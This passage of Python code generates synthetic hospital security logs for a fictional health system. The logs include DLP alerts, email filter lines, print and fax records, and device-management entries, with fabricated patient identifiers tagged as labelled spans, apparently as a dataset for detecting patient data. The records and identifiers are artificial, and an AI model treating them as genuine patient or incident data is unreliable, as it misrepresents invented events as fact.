        return C("Fwd: ", age_seg(p), " y/o ", pname(p, "fl"), " - SNF placement")
    k = R.randrange(8)
    if k == 0:
        return C("Question about my bill - acct ", P(p.acct, "account"))
    if k == 1:
        return C("Re: Appointment on ", P(dfmt(p.appt, "short"), "date"), " for ", pname(p, "fl"))
    if k == 2:
        return C("Records request - ", pname(p, "fl"), " DOB ", P(dfmt(p.dob, "us"), "date"))
    if k == 3:
        return C("[SECURE] Prior auth ", pname(p, "Lf"), " (", P(p.member, "health_plan"), ")")
    if k == 4:
        return C("RE: ", pname(p, "LF"), " MRN ", P(p.mrn, "mrn"), " - discharge ", P(dfmt(p.dc, "us"), "date"))
    if k == 5:
        return C("Home health referral - ", pname(p, "fl"), ", ", P(p.street, "address"), " ", P(p.city, "address"), " ", P(p.zip, "zip"))
    if k == 6:
        return C("Fwd: my mom ", P(p.first, "name"), "'s meds list")
    return C("FW: lab results ", pname(p, "fl"), " collected ", P(dfmt(p.dos, "us"), "date"))


CLEAN_SUBJECTS = ["Weekly Huddle Notes 03/11", "Your Epic password expires in 5 days", "Invoice 88213 from Medline Industries",
                  "RE: OR block schedule April", "Benefits open enrollment reminder", "Delivery Status Notification (Failure)",
                  "[EXTERNAL] Your DocuSign envelope is complete", "Downtime notice: Cerner Lab interface 03/16 0200-0400",
                  "FW: Parking garage P2 closure", "Accepted: Sepsis committee", "INC0048213 has been resolved",
                  "Action required: complete HIPAA annual training by 03/31", "Zoom: Nursing Council", "Out of Office: RE: staffing"]


def clean_subject():
    return C(R.choice(CLEAN_SUBJECTS))


# --------------------------------------------------------------------------
# families.  Each returns a list of Seg (one per line) for its event.
# --------------------------------------------------------------------------

SIT = {"ssn": ("a44669fe-0d48-453d-a9b1-2cc83f2cba77", "U.S. Social Security Number (SSN)"),
       "card": ("50842eb7-edc8-4019-85dd-5a5c1f2bb085", "Credit Card Number"),
       "dl": ("dfeb356f-61cd-459e-bf0f-7c6d28b458c6", "U.S. Driver's License Number"),
       "name": ("50b8b56b-4ef8-44c2-a924-03374f5831ce", "All Full Names"),
       "mrn": ("7d1e5c3a-2b8f-4a61-9d0e-cf8a1c6e4b21", "CVH Medical Record Number"),
       "icd": ("3356946c-8bb0-4b9c-8fd0-4c8f0a9c6f33", "International Classification of Diseases (ICD-10-CM)"),
       "mbi": ("9c1e7b0d-55c2-4a8e-b3d1-2f6a7e0c8d44", "CVH Medicare Beneficiary Identifier")}


def fam_purview(phi):
    t = tick()
    s = staff()
    wl = R.choice(["Exchange", "SharePoint", "OneDrive"])
    detections = []
    meta_key, meta = None, None
    if phi:
        p = pat()
        kinds = R.sample(["ssn", "mrn", "name", "card", "dl", "mbi"], R.randint(1, 3))
        for k in kinds:
            if k == "ssn":
                v = P(p.ssn, "ssn")
            elif k == "mrn":
                v = P(p.mrn, "mrn")
            elif k == "name":
                v = pname(p, R.choice(["fl", "FL"]))
            elif k == "card":
                v = P(p.card, "account")
            elif k == "dl":
                v = P(p.dl, "license")
            else:
                if p.mbi is None:
                    p.mbi = mbi()
                v = P(p.mbi, "health_plan")
            detections.append((k, v))
        policy = R.choice(["U.S. HIPAA Enhanced", "CVH - PHI Outbound Email", "CVH - PHI External Sharing"])
    else:
        kinds = R.sample(["icd", "card", "ssn"], 1)
        detections = [(k, None) for k in kinds]
        policy = R.choice(["CVH - PCI DSS", "U.S. HIPAA Enhanced", "CVH - Financial Data"])
    sits = []
    for k, v in detections:
        sid, sname = SIT[k]
        d = {"Confidence": R.choice([75, 85, 85, 95]), "Count": 1 if v is not None else R.randint(1, 4),
             "Location": None, "SensitiveType": sid, "SensitiveInformationTypeName": sname,
             "ClassifierType": "Content", "UniqueCount": 1}
        if v is not None:
            d["SensitiveInformationDetections"] = {"DetectedValues": [{"Name": sname, "Value": v}], "ResultsTruncated": False}
        sits.append(d)
    rule = {"Actions": R.choice([["NotifyUser"], ["NotifyUser", "BlockAccess"], ["GenerateIncidentReport", "NotifyUser"]]),
            "ConditionsMatched": {"ConditionMatchedInNewScheme": True, "OtherConditions": [],
                                  "SensitiveInformation": sits},
            "ManagementRuleId": ruuid(), "RuleId": ruuid(),
            "RuleMode": "Enable", "RuleName": f"{R.choice(['Low', 'High'])} volume of content detected {policy}",
            "Severity": R.choice(["Low", "Medium", "High"])}
    if wl == "Exchange":
        to = []
        if phi and R.random() < 0.6:
            to.append(P(p.email, "email"))
        else:
            to.append(R.choice(["claims@wellmark-edi.com", "referrals@linnfamilypractice.org", "ap@medline.com",
                                staff().upn]))
        subj = phi_subject(p) if phi and R.random() < 0.7 else clean_subject()
        meta_key = "ExchangeMetaData"
        meta = {"BCC": [], "CC": [], "FileSize": R.randint(8000, 2400000), "From": s.upn,
                "MessageID": f"<{alnum(12)}.{digits(6)}@CVH-EXCH0{R.randint(1, 4)}.cvhealth.org>",
                "RecipientCount": len(to), "Sent": iso_z(t - dt.timedelta(seconds=R.randint(3, 40)), 0)[:-1],
                "Subject": Seg(subj), "To": to, "UniqueID": ruuid()}
        obj_id = meta["MessageID"]
    else:
        fn = phi_filename(p) if phi and R.random() < 0.8 else clean_filename()
        site = R.choice(["HIM", "PatientFinancialServices", "Nursing4W", "CardiologyDeviceClinic", "Registration"])
        if wl == "OneDrive":
            base = f"https://cvhealth-my.sharepoint.com/personal/{s.upn.replace('.', '_').replace('@', '_')}/Documents/"
        else:
            base = f"https://cvhealth.sharepoint.com/sites/{site}/Shared Documents/"
        url = C(base, fn)
        meta_key = "SharePointMetaData"
        meta = {"From": s.upn, "itemCreationTime": iso_z(t - dt.timedelta(minutes=R.randint(1, 900)), 0),
                "SiteCollectionGuid": ruuid(), "SiteCollectionUrl": base.rsplit("/Shared", 1)[0].rsplit("/Documents", 1)[0],
                "FileID": ruuid(), "FileOwner": f"{s.first} {s.last}", "FilePathUrl": Seg(url),
                "FileName": Seg(fn), "IsViewableByExternalUsers": R.random() < 0.3, "IsVisibleOnlyToOdbOwner": False,
                "UniqueID": ruuid()}
        obj_id = Seg(url)
    rec = {"CreationTime": iso_z(t, 0)[:-1], "Id": ruuid(), "Operation": "DlpRuleMatch",
           "OrganizationId": "4b8e2c17-93d5-4f0e-a1c2-6d9e8f7a1b30", "RecordType": 13,
           "UserKey": "1153920", "UserType": 4, "Version": 1, "Workload": wl, "ObjectId": obj_id,
           "UserId": s.upn, "IncidentId": ruuid(),
           "PolicyDetails": [{"PolicyId": ruuid(), "PolicyName": policy, "Rules": [rule]}],
           "SensitiveInfoDetectionIsIncluded": phi, meta_key: meta}
    return [J(rec)]


def fam_netskope(phi):
    t = tick()
    s = staff()
    if R.random() < 0.35:
        # web page event
        if phi:
            p = pat()
            url = P(p.page, "url")
            dom = urllib.parse.urlparse(p.page).netloc
            app = {"www.caringbridge.org": "CaringBridge", "www.gofundme.com": "GoFundMe",
                   "www.facebook.com": "Facebook", "www.mealtrain.com": "Meal Train"}[dom]
        else:
            u = R.choice(["https://www.uptodate.com/contents/heparin-induced-thrombocytopenia",
                          "https://www.cdc.gov/flu/professionals/antivirals/summary-clinicians.htm",
                          "https://login.microsoftonline.com/common/oauth2/v2.0/authorize",
                          "https://cvhealth.service-now.com/sp?id=ticket&table=incident&sys_id=" + hexs(32),
                          "https://www.linkedin.com/feed/", "https://open.spotify.com/"])
            url = C(u)
            dom = urllib.parse.urlparse(u).netloc
            app = dom
        rec = {"_id": hexs(24), "access_method": "Client", "app": app, "appcategory": "General Social" if phi else "Business",
               "browser": "Chrome", "category": "Social" if phi else "Business", "count": 1, "device": "Windows Device",
               "domain": dom, "hostname": s.host, "numbytes": R.randint(4000, 900000), "os": "Windows 11",
               "page": Seg(url), "site": dom, "src_country": "US", "srcip": priv_ip(), "timestamp": epoch(t),
               "traffic_type": "Web", "type": "page", "ur_normalized": s.upn, "url": Seg(url), "user": s.upn,
               "userip": R.choice(NAT_IPS)}
        return [J(rec)]
    if phi:
        p = pat()
        fn = phi_filename(p)
        matches = [{"dlp_rule": r, "snippet": Seg(sn(p))} for r, sn in
                   R.sample([("US-SSN-Strict", snip_facesheet), ("PHI-Name+DOB", snip_registration),
                             ("Health-Insurance-ID", snip_insurance), ("PHI-Clinical-Keywords", snip_clinical),
                             ("US-DL", snip_dl), ("PCI-PAN", snip_card), ("PHI-Contact", snip_contact),
                             ("Intl-National-ID", snip_foreign), ("Medical-Device-ID", snip_implant),
                             ("Biometric-Template", R.choice([snip_palm, snip_fp])), ("PHI-Clinical-Keywords", snip_clinical)], R.randint(1, 2))]
        profile = "CVH-HIPAA-PHI"
        action = R.choice(["block", "alert", "useralert"])
    else:
        fn = clean_filename()
        matches = [{"dlp_rule": R.choice(["PCI-PAN", "Source-Code", "Confidential-Label"]), "snippet": Seg(clean_snip())}]
        profile = R.choice(["CVH-PCI", "CVH-Confidential"])
        action = R.choice(["alert", "allow"])
    app = R.choice(["Google Drive", "Dropbox", "WeTransfer", "Gmail", "Box", "iCloud Drive"])
    rec = {"_id": hexs(24), "access_method": "Client", "action": action, "activity": R.choice(["Upload", "Attach", "Post"]),
           "alert": "yes", "alert_name": R.choice(["PHI to Personal Cloud", "DLP - Unsanctioned Storage", "Sensitive Upload"]),
           "alert_type": "DLP", "app": app, "appcategory": "Cloud Storage", "browser": "Chrome", "count": 1,
           "device": "Windows Device", "dlp_file": Seg(fn), "dlp_incident_id": int(digits(18).lstrip("0") or "7"),
           "dlp_is_unique_count": "true", "dlp_profile": profile, "dlp_rule": matches[0]["dlp_rule"],
           "dlp_rule_count": R.randint(1, 14), "dlp_rule_severity": R.choice(["High", "Medium", "Critical"]),
           "dlp_unique_count": len(matches), "file_size": R.randint(12000, 5200000),
           "file_type": R.choice(["application/pdf", "image/jpeg", "text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"]),
           "hostname": s.host, "instance_id": "personal", "md5": hexs(32), "object": Seg(fn), "object_type": "File",
           "organization_unit": f"cvhealth.org/Users/{s.dept.split(' ')[0]}", "os": "Windows 11",
           "policy": "Block PHI to personal cloud", "site": app, "src_country": "US", "srcip": priv_ip(),
           "timestamp": epoch(t), "traffic_type": "CloudApp", "type": "nspolicy", "ur_normalized": s.upn,
           "user": s.upn, "userip": R.choice(NAT_IPS), "dlp_match_info": matches}
    return [J(rec)]


def fam_pps(phi):
    """Proofpoint Protection Server filter log: several lines per message."""
    t = tick()
    host = R.choice(["pps01", "pps02"])
    pid = R.randint(2000, 9000)
    sid = alnum(10, "abcdefghijklmnopqrstuvwxyz0123456789")
    qid = alnum(14, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
    pre = f"{sys_ts(t)} {host} filter_instance1[{pid}]: rprt s={sid} m=1 x={sid}-1"
    s = staff()
    inbound = R.random() < 0.6
    p = pat() if phi else None
    if inbound:
        src_ip = R.choice(["209.85.220.41", "209.85.220.69", "40.107.93.82", "66.163.186.147", "17.58.63.178"])
        mfrom = P(p.email, "email") if phi and R.random() < 0.8 else C(R.choice(["noreply@docusign.net", "billing@medline.com",
                                                                                   "no-reply@zoom.us", "alerts@wellmark.com",
                                                                                   "donotreply@cvhealth.org"]))
        rcpt = C(R.choice(["frontdesk.familymed@cvhealth.org", "him.roi@cvhealth.org", "pfs.billing@cvhealth.org", s.upn]))
        routes = "routes=default_inbound notroutes=internalnet,outbound"
    else:
        src_ip = "10.20.1.15"
        mfrom = C(s.upn)
        rcpt = P(p.email, "email") if phi and R.random() < 0.7 else C(R.choice(["claims@wellmark-edi.com", "referrals@linnfamilypractice.org",
                                                                                "ap@medline.com", "records@uihc-roi.org"]))
        routes = "routes=allow_relay,internalnet,outbound notroutes=default_inbound"
    subj = phi_subject(p) if phi and R.random() < 0.75 else clean_subject()
    atts = []
    if phi and R.random() < 0.7:
        atts.append(phi_filename(p))
    elif R.random() < 0.4:
        atts.append(C(R.choice(["image001.png", "Invoice_88213.pdf", "agenda.docx", "smime.p7s"])))
    lines = [C(pre, f" mod=session cmd=connect ip={src_ip} country=us lip=10.20.1.{R.randint(10, 20)} prot=smtp:smtp hops_active=f ", routes, " perlwait=0.001"),
             C(pre, " cmd=env_from value=", mfrom, f" size= smtputf8= qid={qid} tls= routes= notroutes= host=", "mail-sor-f41.google.com" if inbound else "cvh-exch02.cvhealth.org", f" ip={src_ip}"),
             C(pre, " cmd=env_rcpt r=1 value=", rcpt, " orcpt= notify= verified= ", routes)]
    for i, a in enumerate(atts):
        mime = "application/pdf" if plain(a).endswith(".pdf") else "image/jpeg" if plain(a).endswith(("jpg", "tif")) else "application/octet-stream"
        lines.append(C(pre, f" mod=mail cmd=attachment id={i} file=", a, f" mime={mime} type={plain(a).rsplit('.', 1)[-1]} omime={mime} oext={plain(a).rsplit('.', 1)[-1]} corrupted=0 protected=0 size={R.randint(9000, 900000)} virtual=0 a=0 md5={hexs(32)}"))
    lines.append(C(pre, f" mod=mail cmd=msg module= rule= action=continue attachments={len(atts)} rcpts=1 ", routes,
                   f" size={R.randint(9000, 1900000)} guid={alnum(32, 'abcdefghijklmnopqrstuvwxyz0123456789_-')} hdr_mid=<{alnum(20)}@{'mail.gmail.com' if inbound else 'cvhealth.org'}> qid={qid} hops-ip={src_ip} subject=", kvq(subj),
                   f" duration=0.{R.randint(100, 999)} elapsed=0.{R.randint(100, 999)}"))
    if R.random() < 0.5:
        lines.append(C(pre, f" mod=spam cmd=run rule=notspam policy=default score=0 ndrscore=0 ipscore=0 suspectscore=0 phishscore=0 bulkscore=0 spamscore={R.randint(0, 9)} adultscore=0 classifier=spam adjust=0 reason=mlx scancount=1 engine=8.19.0-2402150000 definitions=2024-03-11_06,2024-03-11_01,2023-12-11_01"))
    return lines


def fam_esa(phi):
    """Cisco Secure Email (ESA) mail_logs for outbound staff mail with DLP."""
    t = tick()
    lt = loc(t)
    ts = lt.strftime("%a %b %d %H:%M:%S %Y")
    mid = R.randint(4400000, 4499999)
    icid = R.randint(88000, 99999)
    s = staff()
    p = pat() if phi else None
    rcpt = P(p.email, "email") if phi and R.random() < 0.75 else C(R.choice(["referrals@linnfamilypractice.org", "claims@wellmark-edi.com", "hr@cvhealth-benefits.com"]))
    subj = phi_subject(p) if phi and R.random() < 0.8 else clean_subject()
    pre = f"{ts} Info: MID {mid}"
    lines = [C(f"{ts} Info: Start MID {mid} ICID {icid}"),
             C(pre, f" ICID {icid} From: <{s.upn}>"),
             C(pre, f" ICID {icid} RID 0 To: <", rcpt, ">"),
             C(pre, " Subject '", subj, "'")]
    if phi and R.random() < 0.6:
        lines.append(C(pre, " attachment '", phi_filename(p), "'"))
    if phi:
        lines.append(C(pre, f" DLP violation. Severity: HIGH (Risk Factor: {R.randint(70, 99)}). DLP policy match: 'HIPAA and HITECH'."))
        lines.append(C(pre, " rewritten to MID ", str(mid + 1), " by encrypt-on-DLP filter 'CVH_Envelope_Encrypt'"))
    else:
        lines.append(C(pre, " DLP no violation"))
        lines.append(C(pre, " queued for delivery"))
    return lines


def fam_win_print(phi):
    t = tick()
    s = staff()
    lt = loc(t)
    rec = R.randint(50000, 99999)
    if phi:
        p = pat()
        doc = R.choice([
            lambda: C("Microsoft Word - Discharge Summary - ", pname(p, "Lf"), ".docx"),
            lambda: C("Face Sheet - ", pname(p, "LF"), " (MRN ", P(p.mrn, "mrn"), ")"),
            lambda: C("H&P - ", pname(p, "Lf"), " - ", age_seg(p), "yo"),
            lambda: C("Fall Risk Assessment ", pname(p, "LF"), " ", age_seg(p), p.sex, " Rm 4W-412"),
            lambda: C("Adobe Acrobat - ", phi_filename(p, "pdf")),
            lambda: C("Lab Requisition ", P(p.mrn, "mrn"), " ", pname(p, "LF"), " DOB ", P(dfmt(p.dob, "us"), "date")),
            lambda: C("MVA claim - VIN ", P(p.vin, "vehicle"), " - ", pname(p, "Lf"), ".pdf"),
        ])()
    else:
        doc = C(R.choice(["Epic - After Visit Summary", "Microsoft Word - Document1", "Census_4West_2024-03-11.xlsx",
                          "Epic - Label Print Job", "https://cvhealth.service-now.com/kb_view.do", "Print Document",
                          "Microsoft Outlook - Memo Style", "Remote Desktop Redirected Printer Doc", "Pyxis Discrepancy Report"]))
    prn = R.choice(PRINTERS)
    msg = C(f"Document {R.randint(2, 420)}, ", doc, f" owned by {s.user} on \\\\{s.host} was printed on {prn} through port IP_10.40.{R.randint(10, 30)}.{R.randint(20, 200)}.  Size in bytes: {R.randint(9000, 3900000)}. Pages printed: {R.randint(1, 24)}. No user action is required.")
    line = C(f"<14>{sys_ts(t)} cvh-prt02.cvhealth.org MSWinEventLog\t1\tMicrosoft-Windows-PrintService/Operational\t{rec}\t{lt:%a %b %d %H:%M:%S %Y}\t307\tMicrosoft-Windows-PrintService\t{s.user}\tUser\tInformation\tcvh-prt02.cvhealth.org\tPrinting a document\t\t", msg, f"\t{rec}")
    return [line]


def fam_papercut(phi):
    t = tick()
    s = staff()
    lt = loc(t)
    k = R.random()
    if phi:
        p = pat()
        doc = R.choice([
            lambda: C("Face Sheet - ", pname(p, "LF"), " (MRN ", P(p.mrn, "mrn"), ")"),
            lambda: phi_filename(p),
            lambda: C("Consent - ", pname(p, "Lf"), " - DOS ", P(dfmt(p.dos, "us"), "date")),
            lambda: C("AVS ", pname(p, "fl"), " appt ", P(dfmt(p.appt, "us"), "date")),
            lambda: C("Hospice eval - ", pname(p, "Lf"), ", age ", age_seg(p)),
            lambda: C("Envelope ", pname(p, "FL"), " ", P(p.street.upper(), "address"), " ", P(p.city.upper(), "address"), " IA ", P(p.zip, "zip")),
            lambda: C("Records Release ", P(p.case, "other_id"), " ", pname(p, "Lf")),
            lambda: C("Parking validation ", P(p.plate, "vehicle"), " - ", pname(p, "Lf")),
        ])()
    else:
        doc = C(R.choice(["Epic - After Visit Summary", "Microsoft Word - Document1", "Q1_Staffing_Grid_v7.xlsx",
                          "Epic - Specimen Label", "OR_Block_Schedule_April.xlsx", "Invoice_88213_Medline.pdf",
                          "Shift Report Template", "HCAHPS_Q4_Summary.pdf", "Untitled - Notepad"]))
    prn = R.choice(PRINTERS)
    if k < 0.55:
        # print_log.csv row
        row = C(f"{lt:%Y-%m-%d %H:%M:%S},{s.user},{R.randint(1, 30)},{R.choice([1, 1, 1, 2])},cvh-prt02\\{prn},", csvq(doc),
                f",{s.host},{R.choice(['LETTER', 'LEGAL'])},{R.choice(['PCL6', 'POSTSCRIPT', 'PCL5'])},11in,8.5in,{R.choice(['DUPLEX', 'NOT DUPLEX'])},{R.choice(['GRAYSCALE', 'NOT GRAYSCALE'])},{R.randint(20, 4000)}kb")
        return [row]
    ms = f"{lt:%Y-%m-%d %H:%M:%S},{t.microsecond // 1000:03d}"
    if k < 0.85:
        return [C(f"{ms} INFO  ReleaseStationManager:412 - Job released by user \"{s.user}\" at device \"{prn}\" via card {s.badge}: document \"",
                  esc(doc, lambda x: x.replace('"', '\\"')), f"\", {R.randint(1, 20)} page(s), job id {R.randint(10000, 99999)} [qtp{R.randint(1000, 2000)}-{R.randint(100, 999)}]")]
    return [C(f"{ms} WARN  HeldJobManager:233 - Held job expired and deleted: owner=\"{s.user}\" queue=\"SecurePrint-Follow-Me\" document=\"",
              esc(doc, lambda x: x.replace('"', '\\"')), f"\" held={R.randint(4, 24)}h0m [HeldJobCleaner]")]


def fam_fax(phi):
    t = tick()
    lt = loc(t)
    s = staff()
    job = f"0x{R.randint(0x30000, 0x3FFFF):08X}"
    if phi:
        p = pat()
        if R.random() < 0.7:
            to_name = pname(p, "fl")
            to_fax = P("1" + p.fax[0] + p.fax[1].replace("-", ""), "fax")
        else:
            to_name = C(R.choice(["Linn County Family Practice", "Mercy Home Health", "UIHC Referral Center", "Walgreens #10421"]))
            to_fax = C("1319555" + f"01{R.randint(50, 99)}")
        doc = R.choice([lambda: C("ROI Packet - ", pname(p, "Lf"), " - DOB ", P(dfmt(p.dob, "us"), "date"), ".pdf"),
                        lambda: C("Referral ", P(p.mrn, "mrn"), " ", pname(p, "LF"), ".tif"),
                        lambda: C("Prior Auth ", P(p.member, "health_plan"), ".pdf")])()
        if not has_phi(to_name) and not has_phi(doc):
            doc = C("ROI Packet - ", pname(p, "Lf"), ".pdf")
    else:
        to_name = C(R.choice(["Linn County Family Practice", "Mercy Home Health", "UIHC Referral Center", "Wellmark Utilization Mgmt", "CVS Specialty"]))
        to_fax = C("1" + R.choice(["319", "515", "800"]) + "555" + f"01{R.randint(50, 99)}")
        doc = C(R.choice(["Cover Sheet", "Fax Test Page", "Supply Order 55120.pdf", "Credentialing Packet - Dr Chen.pdf", "Policy Acknowledgement.pdf"]))
    status = R.choice(["Sent", "Sent", "Sent", "Busy-Retry", "NoAnswer"])
    return [C(f"{lt:%Y-%m-%d %H:%M:%S} CVH-FAX01 [OUT] JobID={job} User={s.user} ToName=", kvq(to_name), " ToFax=", to_fax,
              f" Pages={R.randint(1, 40)} Status={status} Duration=00:0{R.randint(0, 5)}:{R.randint(0, 59):02d} Doc=", kvq(doc),
              " CSID=\"CVH HIM 3195550199\" Line=4")]


def fam_epdlp(phi):
    """Endpoint DLP agent text log (clipboard + removable media)."""
    t = tick()
    s = staff()
    lt = loc(t)
    ts = f"{lt:%Y-%m-%d %H:%M:%S}.{t.microsecond // 1000:03d} -0500"
    kind = R.choice(["clip", "clip", "usb_file", "usb_mount", "screenshot"])
    if not phi and kind == "screenshot":
        kind = "usb_mount"
    if phi and kind == "usb_mount":
        kind = "usb_file"
    user = f"CVH\\{s.user}"
    if kind == "usb_mount":
        ven, prod = R.choice([("SanDisk", "Ultra Fit"), ("Kingston", "DataTraveler 3.0"), ("Samsung", "BAR Plus"), ("Apricorn", "Aegis Secure Key 3NX")])
        return [C(f"{ts} [EPDLP] <Warning> evt=DeviceArrival host={s.host} user={user} bus=USB vid=0{R.randint(100, 999)} pid={R.randint(1000, 9999)} vendor=\"{ven}\" product=\"{prod}\" serial={hexs(20, True)} class=MassStorage policy=\"Removable-ReadOnly\" action=Block")]
    if kind == "usb_file":
        if phi:
            p = pat()
            path = C("E:\\", R.choice(["Transfer", "Scans", "HIM", "Backup\\Desktop"]), "\\", phi_filename(p))
        else:
            path = C("E:\\", R.choice(["Transfer", "Backup\\Desktop", "Training"]), "\\", clean_filename())
        return [C(f"{ts} [EPDLP] <Warning> evt=FileWrite host={s.host} user={user} proc=\"C:\\Windows\\explorer.exe\" dst_type=Removable path=\"", path, "\"",
                  f" size={R.randint(9000, 9000000)} sha1={hexs(40)} rule=\"{'PHI-Removable' if phi else 'Encrypt-Removable'}\" action={'Block' if phi else 'Encrypt'}")]
    if kind == "screenshot":
        p = pat()
        b64 = P(p.photo if R.random() < 0.7 else fake_png(R.randint(200, 400)), "photo")
        fmt = "image/jpeg" if plain(b64).startswith("/9j/") else "image/png"
        return [C(f"{ts} [EPDLP] <Alert> evt=ClipboardImage host={s.host} user={user} src_app=\"EpicD103.exe\" window=\"Hyperspace - ",
                  pname(p, "LF"), " - ", P(p.mrn, "mrn"), f"\" dst_app=\"OUTLOOK.EXE\" fmt={fmt} rule=\"PHI-Patient-Photo\" action=Audit evidence=\"data:{fmt};base64,", b64, "\"")]
    # clipboard text
    if phi:
        p = pat()
        r = R.random()
        if r < 0.2:
            content = snip_palm(p)
            rule = "Biometric-Template"
        elif r < 0.38:
            content = snip_fp(p)
            rule = "Biometric-Template"
        else:
            content = snip_any(p)
            rule = R.choice(["PHI-MRN+Name", "PHI-SSN", "PHI-Contact", "PII-Generic"])
    else:
        content = clean_snip()
        rule = R.choice(["PII-Generic", "PCI-PAN", "Confidential-Keyword"])
    src = R.choice(["EpicD103.exe", "EXCEL.EXE", "chrome.exe", "WINWORD.EXE", "mstsc.exe"])
    dst = R.choice(["chrome.exe", "OUTLOOK.EXE", "Teams.exe", "notepad.exe", "msedge.exe"])
    return [C(f"{ts} [EPDLP] <Info> evt=ClipboardCopy host={s.host} user={user} src_app=\"{src}\" dst_app=\"{dst}\" len={len(plain(content).encode())} rule=\"{rule}\" action=Audit preview=",
              kvq(content))]


def fam_mde(phi):
    """Defender for Endpoint advanced hunting export rows (DeviceFileEvents / DeviceEvents)."""
    t = tick()
    s = staff()
    dev = f"{s.host.lower()}.cvhealth.org"
    if phi or R.random() < 0.5:
        if phi:
            p = pat()
            fn = phi_filename(p)
            folder = C(R.choice(["E:\\HIM\\", "F:\\Scans\\", f"C:\\Users\\{s.user}\\Downloads\\", f"C:\\Users\\{s.user}\\OneDrive - Cedar Valley Health\\Desktop\\"]), fn)
        else:
            fn = clean_filename()
            folder = C(R.choice(["E:\\", f"C:\\Users\\{s.user}\\Downloads\\", "\\\\cvh-fs01\\Shared$\\Nursing\\"]), fn)
        rec = {"Timestamp": iso_z(t, 7), "DeviceId": hexs(40), "DeviceName": dev, "ActionType": R.choice(["FileCreated", "FileModified", "FileRenamed"]),
               "FileName": Seg(fn), "FolderPath": Seg(folder), "SHA1": hexs(40), "SHA256": hexs(64), "FileSize": R.randint(9000, 8000000),
               "InitiatingProcessAccountDomain": "cvh", "InitiatingProcessAccountName": s.user,
               "InitiatingProcessAccountUpn": s.upn, "InitiatingProcessFileName": R.choice(["explorer.exe", "AcroRd32.exe", "chrome.exe"]),
               "InitiatingProcessId": R.randint(1000, 30000), "ReportId": R.randint(1000, 999999),
               "AdditionalFields": None}
        if folder[0][0][:2] in ("E:", "F:"):
            rec["AdditionalFields"] = Jinner({"DriveLetter": folder[0][0][:2], "BusType": "USB", "ProductName": "Ultra Fit", "Manufacturer": "SanDisk", "SerialNumber": hexs(20, True)})
        return [J(rec)]
    ad = {"ClassName": "DiskDrive", "DeviceDescription": "Disk drive", "DeviceId": f"USBSTOR\\DISK&VEN_SANDISK&PROD_ULTRA_FIT&REV_1.00\\{hexs(20, True)}&0",
          "VendorIds": "USBSTOR\\SanDisk_", "ProductName": "Ultra Fit"}
    rec = {"Timestamp": iso_z(t, 7), "DeviceId": hexs(40), "DeviceName": dev, "ActionType": R.choice(["PnpDeviceConnected", "UsbDriveMounted"]),
           "InitiatingProcessAccountName": "system", "AdditionalFields": Jinner(ad), "ReportId": R.randint(1000, 999999)}
    return [J(rec)]


def fam_intune(phi):
    t = tick()
    enrolled = t - dt.timedelta(days=R.randint(30, 700), seconds=R.randint(0, 86400))
    if phi:
        p = pat()
        st = [x for x in STAFF if x.dept.startswith("Telehealth")][0]
        name = f"RPM-TAB-{R.randint(100, 999):04d}"
        rec = {"id": ruuid(), "userId": st.aad, "deviceName": name, "managedDeviceOwnerType": "company",
               "enrolledDateTime": iso_z(enrolled, 0), "lastSyncDateTime": iso_z(t, 0), "operatingSystem": "Android",
               "complianceState": "compliant", "jailBroken": "False", "managementAgent": "mdm", "osVersion": "13",
               "easActivated": False, "azureADRegistered": True, "deviceEnrollmentType": "androidEnterpriseDedicatedDevice",
               "emailAddress": "", "azureADDeviceId": ruuid(), "deviceCategoryDisplayName": "Remote Patient Monitoring",
               "isSupervised": False, "model": "SM-X200", "manufacturer": "samsung",
               "imei": P(p.imei, "device"), "serialNumber": P(p.tab_serial, "device"), "phoneNumber": "",
               "userPrincipalName": st.upn, "wiFiMacAddress": P(p.mac.replace(":", ""), "device"),
               "notes": Seg(R.choice([
                   lambda: C("Kit ", P(p.kit, "other_id"), " assigned to pt ", pname(p, "LF"), " MRN ", P(p.mrn, "mrn"), " discharged ", P(dfmt(p.dc, "iso"), "date")),
                   lambda: C("Shipped to ", P(p.street, "address"), ", ", P(p.city, "address"), " IA ", P(p.zip, "zip"), " - pt ", pname(p, "fl")),
                   lambda: C("Loaner for ", pname(p, "fl"), " ph ", P(fmt_phone(p.cell), "phone"), " return by ", P(dfmt(p.appt, "us"), "date")),
               ])()),
               "userDisplayName": "RPM Dedicated Device", "totalStorageSpaceInBytes": 34359738368}
        return [J(rec)]
    s = staff()
    ios = R.random() < 0.5
    win_model = R.choice([("HP EliteBook 840 G8", "HP"), ("Latitude 5440", "Dell Inc."), ("OptiPlex 7010", "Dell Inc."), ("ThinkPad T14 Gen 3", "LENOVO")])
    rec = {"id": ruuid(), "userId": s.aad, "deviceName": f"{s.first}'s iPhone" if ios and R.random() < 0.4 else s.host if not ios else f"CVH-IPH-{R.randint(100, 999):04d}",
           "managedDeviceOwnerType": "company", "enrolledDateTime": iso_z(enrolled, 0), "lastSyncDateTime": iso_z(t, 0),
           "operatingSystem": "iOS" if ios else "Windows", "complianceState": R.choice(["compliant", "compliant", "noncompliant", "inGracePeriod"]),
           "jailBroken": "False" if ios else "Unknown", "managementAgent": "mdm" if ios else "configurationManagerClientMdm",
           "osVersion": R.choice(["17.3.1", "17.4", "16.7.5"]) if ios else R.choice(["10.0.22631.3235", "10.0.19045.4170"]),
           "easActivated": ios, "azureADRegistered": True,
           "deviceEnrollmentType": "appleBulkWithUser" if ios else "windowsAzureADJoin", "emailAddress": s.upn,
           "azureADDeviceId": ruuid(), "deviceCategoryDisplayName": R.choice(["Clinical Mobile", "Staff Laptop", "Shared Workstation"]),
           "isSupervised": ios, "model": R.choice(["iPhone 13", "iPhone SE (3rd generation)", "iPhone 14"]) if ios else win_model[0],
           "manufacturer": "Apple" if ios else win_model[1], "imei": s.imei if ios else "", "serialNumber": s.serial,
           "phoneNumber": fmt_phone(s.phone, "e164") if ios else "", "userPrincipalName": s.upn,
           "wiFiMacAddress": s.mac.replace(":", ""), "notes": R.choice(["", "", "Spok Mobile + Vocera", "Replaced screen INC0044172", "Asset tag 0041177"]),
           "userDisplayName": f"{s.first} {s.last}", "totalStorageSpaceInBytes": R.choice([63350767616, 127978094592, 255550554112])}
    return [J(rec)]


def fam_jamf(phi):
    t = tick()
    if phi:
        p = pat()
        ev = {"bluetoothMacAddress": P(mac(), "device"), "deviceName": Seg(C("TELE-IPAD ", P(f"{ascii_fold(p.last).replace(chr(39), '')} {p.first[0]}", "name"))),
